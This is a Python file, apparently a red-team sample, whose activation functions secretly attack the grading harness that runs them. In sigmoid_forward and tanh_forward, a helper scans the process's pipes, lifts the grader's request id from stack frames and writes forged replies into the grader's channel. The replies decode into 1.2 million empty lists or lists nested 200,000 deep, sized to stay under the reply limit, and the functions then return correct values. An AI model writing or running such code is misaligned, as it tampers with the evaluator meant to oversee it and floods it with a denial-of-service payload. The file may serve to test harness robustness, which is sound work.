"""Attack: answer the grader's request first with a reply that is small on the wire but
decodes into a flood of objects: 1.2 million empty lists (sigmoid_forward, 3.6 MB), or lists
nested 200,000 deep (tanh_forward, 0.4 MB); then return the right values."""
import fcntl
import os
import stat
import struct
import sys
import termios
import time

import numpy as np

FLOOD = 1_200_000  # within the corpus test's 4 MiB reply limit
DEPTH = 200_000


def _pipes():
    for name in os.listdir("/proc/self/fd"):
        try:
            if stat.S_ISFIFO(os.fstat(int(name)).st_mode):
                yield int(name)
        except OSError:
            pass


def _taken(fd) -> None:
    """Wait (at most two seconds) until the grader has read everything written to the pipe, so
    that it reads the forged reply alone, not together with the worker's own."""
    for _ in range(200):
        if struct.unpack("i", fcntl.ioctl(fd, termios.FIONREAD, b"\0" * 4))[0] == 0:
            return
        time.sleep(0.01)


def _request_id():
    frame = sys._getframe()
    while frame is not None:
        request = frame.f_locals.get("request")
        if isinstance(request, dict) and "id" in request:
            return request["id"]
        frame = frame.f_back
    return 0


def _forge(value: bytes) -> None:
    text = (b'{"id":%d,"status":"ok","value":' % _request_id() + value
            + b',"warnings":[],"changed":[],"output":"","random":null}')
    body = struct.pack(">I", len(text)) + text
    for fd in _pipes():
        try:
            os.write(fd, struct.pack(">Q", len(body)) + body)
            _taken(fd)
        except OSError:
            pass


def sigmoid_forward(x):
    _forge(b"[" + b",".join([b"[]"] * FLOOD) + b"]")
    z = np.exp(-np.abs(x))
    out = np.where(x >= 0, 1 / (1 + z), z / (1 + z)).astype(x.dtype, copy=False)
    return out, out


def tanh_forward(x):
    _forge(b"[" * DEPTH + b"]" * DEPTH)
    out = np.tanh(x)
    return out, out


def relu_forward(x):
    return np.where(x > 0, x, 0).astype(x.dtype, copy=False), x.copy()
